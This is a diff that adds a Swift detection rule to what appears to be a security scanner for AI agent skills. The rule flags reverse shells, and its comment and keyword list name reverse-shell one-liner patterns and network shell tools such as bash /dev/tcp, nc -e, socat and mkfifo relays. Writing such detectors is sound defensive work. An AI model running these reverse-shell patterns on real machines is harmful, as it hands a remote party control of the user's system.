@@ -1,0 +1,58 @@
+import SkillScanCore
+import SkillScanLexers
+
+/// Flags reverse shells: a shell whose input and output are wired to a network socket, in
+/// shell (`bash -i >& /dev/tcp/h/p 0>&1`, `nc -e /bin/sh`, `socat … exec:`, a `mkfifo`
+/// relay through `nc`), Python (`socket` + `dup2` + a shell), Node (`net` socket piped into
+/// a spawned shell) or PowerShell (`TCPClient` stream fed to `iex`).
+///
+/// Prose that merely mentions `/dev/tcp` is not code and is not inspected; security skills
+/// that document payloads are reported at low confidence without a chain.
+struct ReverseShellRule: Rule {
+  static let description = RuleDescription(
+    id: "reverse-shell",
+    name: "Reverse shell",
+    pattern: .reverseShell,
+    severity: .critical,
+    confidence: .high,
+    languages: [.shell, .python, .javascript, .powershell, .markdown],
+    summary: "Code hands an interactive shell to a remote host.",
+    rationale: """
+      A reverse shell gives whoever listens at the remote address full interactive control \
+      of the user's machine with the agent's privileges. No legitimate skill needs one.
+      """,
+    remediation: "Remove the code; if remote administration is the purpose, use an authenticated tool the user configures.",
+    references: [.owaspLLM(6), .owaspASI(5), .owaspASI(10), .atlas("AML.T0050"), .cwe(506), .taxonomy("5.3")],
+    keywords: ["/dev/tcp", "/dev/udp", "nc", "ncat", "netcat", "socat", "mkfifo", "dup2", "pty", "net.socket",
+      "net.connect", "createconnection", "tcpclient"],
+    triggeringExamples: ReverseShellRule.triggering,
+    nonTriggeringExamples: ReverseShellRule.nonTriggering
+  )
+
+  func check(file: AnalyzedFile, in skill: AnalyzedSkill, into sink: inout FindingSink) {
+    let security = SecurityPurpose.isSecurityTool(skill) && file.source.language == .markdown
+    let bytes = file.bytes
+    for span in BehaviorShellSpans.spans(of: file) {
+      for pipeline in span.pipelines {
+        guard let message = Self.shellReverse(pipeline, bytes) else { continue }
+        let polarity = BehaviorShellSpans.polarity(span, file, pipeline.range)
+        report(message, pipeline.range, polarity, security, file, &sink)
+      }
+    }
+    for region in file.regions where region.kind != .inlineCode && region.language.isExecutable {
+      if let hit = Self.codeReverse(region, bytes) {
+        report(hit.message, hit.range, .affirmative, security, file, &sink)
+      }
+    }
+  }
+
+  private func report(
+    _ message: String, _ range: Range<Int>, _ polarity: Polarity, _ security: Bool,
+    _ file: AnalyzedFile, _ sink: inout FindingSink
+  ) {
+    sink.report(
+      message, in: file, at: range, severity: security ? .high : .critical,
+      confidence: security ? .low : .high, polarity: polarity,
+      chain: security ? nil : .remoteShell)
+  }
+}
